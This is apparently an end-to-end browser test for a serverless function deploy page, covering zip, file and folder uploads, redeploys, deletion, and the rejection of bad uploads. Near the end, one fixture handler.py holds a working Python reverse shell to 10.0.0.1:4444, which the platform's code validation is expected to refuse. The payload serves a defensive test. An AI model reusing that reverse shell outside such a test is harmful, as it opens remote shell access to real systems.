// A zip and a folder dropped on the page become URLs that work; what is refused is told.
import { clean, drop, equal, holds, until, zipOf } from "./world.mjs";

export const settings = { SLESS_STATIC_VALIDATION: "true" };

export default async function (world) {
  const page = await world.signedIn();
  const form = "main > .deploy form.drop";
  const zip = await zipOf({ "handler.py": "def handle(event):\n    return 'from a zip'\n" });
  await drop(page, form, [{ name: "From Zip.zip", bytes: zip }]);
  await page.locator("[data-deployed=from-zip]").waitFor();
  // The entry comes by itself, and becomes ready.
  await page.locator("#f-from-zip [data-phase=ready]").waitFor();
  equal(await (await world.call("from-zip")).text(), "from a zip", "a working URL");

  // Loose files, more than one: the page makes the zip.
  await page.locator("#deploy-name-new").fill("loose");
  await drop(page, form, [
    { name: "handler.py", bytes: "import helper\ndef handle(event):\n    return helper.word\n" },
    { name: "helper.py", bytes: "word = 'from files ✓'\n" },
  ]);
  await page.locator("#f-loose [data-phase=ready]").waitFor();
  equal(await (await world.call("loose")).text(), "from files ✓", "a working URL");

  // A folder, chosen: its own name is not part of the paths. Large enough to show progress.
  const { mkdirSync, writeFileSync } = await import("node:fs");
  const folder = `${world.folder}/chosen`;
  mkdirSync(`${folder}/lib`, { recursive: true });
  mkdirSync(`${folder}/node_modules/x`, { recursive: true });
  writeFileSync(`${folder}/handler.py`, "from lib.a import word\ndef handle(event):\n    return word\n");
  writeFileSync(`${folder}/lib/a.py`, "word = 'from a folder'\n");
  writeFileSync(`${folder}/node_modules/x/left-out.js`, "x");
  writeFileSync(`${folder}/large.bin`, Buffer.alloc(4 << 20, 7));
  await page.evaluate(() => {
    globalThis.steps = [];
    const bar = document.querySelector("main > .deploy progress");
    new MutationObserver(() => globalThis.steps.push(bar.value)).observe(bar, { attributes: true });
  });
  await page.locator("#deploy-name-new").fill("chosen");
  await page.locator("#deploy-folder-new").setInputFiles(folder);
  await page.locator("main > .deploy").getByRole("button", { name: "Deploy" }).click();
  await page.locator("#f-chosen [data-phase=ready]").waitFor();
  equal(await (await world.call("chosen")).text(), "from a folder", "a working URL");
  const steps = await page.evaluate(() => globalThis.steps);
  holds(steps.includes(100), `progress: ${steps}`);
  const files = await world.api("GET", "/functions/chosen/source");
  equal(files.map(({ name }) => name).sort(), ["handler.py", "large.bin", "lib/a.py"], "files");

  // New code for one that is there, from its own panel.
  await page.locator("#f-loose > summary").click();
  const panel = "#f-loose form.drop";
  await page.locator("#f-loose details.deploy > summary").click();
  const second = await zipOf({ "handler.py": "def handle(event):\n    return 'second'\n" });
  await drop(page, panel, [{ name: "x.zip", bytes: second }]);
  await until("the new code", async () => (await (await world.call("loose")).text()) === "second");

  // What is no zip, and what is found unsafe, is told with its reason, and nothing is made.
  await page.locator("#deploy-name-new").fill("broken");
  await drop(page, form, [{ name: "broken.zip", bytes: "no zip at all" }]);
  await page.locator("main > .deploy [role=alert]").waitFor();
  const evil = await zipOf({
    "handler.py": "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n"
      + "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])\n"
      + "def handle(event):\n    return 1\n",
  });
  await page.locator("#deploy-name-new").fill("evil");
  await drop(page, form, [{ name: "evil.zip", bytes: evil }]);
  await page.getByText("code validation failed").waitFor();
  await until("nothing is left", async () => {
    const { items } = await world.api("GET", "/functions");
    return items.map(({ name }) => name).join() === "chosen,from-zip,loose";
  });

  // The end of one, with its receipt.
  const end = page.locator("#f-from-zip");
  await end.locator("> summary").click();
  await end.locator("details.danger > summary").click();
  await end.locator("input[name=confirm]").fill("from-zip");
  await end.getByRole("button", { name: "Delete: from-zip" }).click();
  await page.getByText("Receipt: from-zip").waitFor();
  await end.waitFor({ state: "detached" });
  equal((await world.call("from-zip")).status, 404, "gone");
  clean(page, world);
}
